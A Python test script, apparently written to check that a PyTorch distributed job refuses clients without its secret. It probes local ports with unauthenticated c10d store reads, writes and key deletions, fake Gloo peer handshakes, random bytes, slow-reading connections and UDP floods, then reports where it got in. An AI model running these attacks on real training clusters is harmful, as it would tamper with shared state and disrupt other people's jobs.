"""A client without the job's secret, with stock PyTorch.

    stranger.py [--but PORT]... [--also PORT]... [--only PORT] ADDRESS...

Attacks every listening port of this network namespace, and the ports of --also, or only that of --only, at each address,
repeatedly until standard input ends: as a client of c10d's store that reads, writes and deletes; with random bytes; with
the first bytes of Gloo's protocol; with connections that send nothing; and with connections that read one byte at a time.
Then prints as JSON what it attacked, how often, and where it succeeded.
"""

import contextlib
import datetime
import json
import os
import random
import select
import socket
import struct
import sys
import time

import torch.distributed as dist

LISTEN = 0x0A
CHOICE = random.Random(1)


def listening_ports():
    ports = set()
    for table in ("tcp", "tcp6"):
        with open(f"/proc/net/{table}") as lines:
            next(lines)
            for line in lines:
                _, local, _, state = line.split()[:4]
                if int(state, 16) == LISTEN:
                    ports.add(int(local.rpartition(":")[2], 16))
    return ports


def connect(address, port):
    return socket.create_connection((address, port), timeout=0.3)


def as_client_of_a_store(address, port):
    """Does what a client of an unprotected c10d store can do."""
    store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False,
                          timeout=datetime.timedelta(milliseconds=300))
    done = [f"count {store.num_keys()}"]
    store.set("lockstep/0/secret", "mine")
    store.delete_key("lockstep/0/lifeline")
    return done


def with_garbage(address, port):
    with connect(address, port) as s:
        s.sendall(CHOICE.choice([os.urandom(CHOICE.randrange(1, 500)), b"GET / HTTP/1.1\r\n\r\n", b"LSRANKS\1" + bytes(100),
                                 b"LSR\3\0\0\0\2{}", b"\xff" * 64]))


def as_peer_of_gloo(address, port):
    """Gloo accepts the first connection that sends the number of a pair as the connection of that pair."""
    with connect(address, port) as s:
        s.sendall(struct.pack("=Q", CHOICE.randrange(4)) + os.urandom(100))


def slowly(address, port, kept):
    s = connect(address, port)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    kept.append(s)


def with_datagrams(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(20):
            s.sendto(os.urandom(CHOICE.randrange(1, 100)), (address, port))


def main():
    arguments = sys.argv[1:]
    spared, named = set(), set()
    only = None
    while arguments[0] in ("--but", "--also", "--only"):
        if arguments[0] == "--only":
            only = {int(arguments[1])}
        (spared if arguments[0] == "--but" else named).add(int(arguments[1]))
        arguments = arguments[2:]
    attacks, ports, entered, kept = 0, set(), [], []
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for port in only or (listening_ports() | named) - spared:
            for address in arguments:
                ports.add(port)
                for attack in (with_garbage, as_peer_of_gloo, with_datagrams,
                               lambda a, p: [slowly(a, p, kept) for _ in range(20)]):
                    with contextlib.suppress(OSError):
                        attack(address, port)
                        attacks += 1
                try:
                    entered.append([port, as_client_of_a_store(address, port)])
                except Exception:  # any error: the attack failed
                    attacks += 1
                for s in kept[::2]:
                    with contextlib.suppress(OSError):
                        s.recv(1, socket.MSG_DONTWAIT)
        for s in kept[:-200]:
            s.close()
        del kept[:-200]
        time.sleep(0.005)
    print(json.dumps({"attacks": attacks, "ports": sorted(ports), "entered": entered}), flush=True)


main()
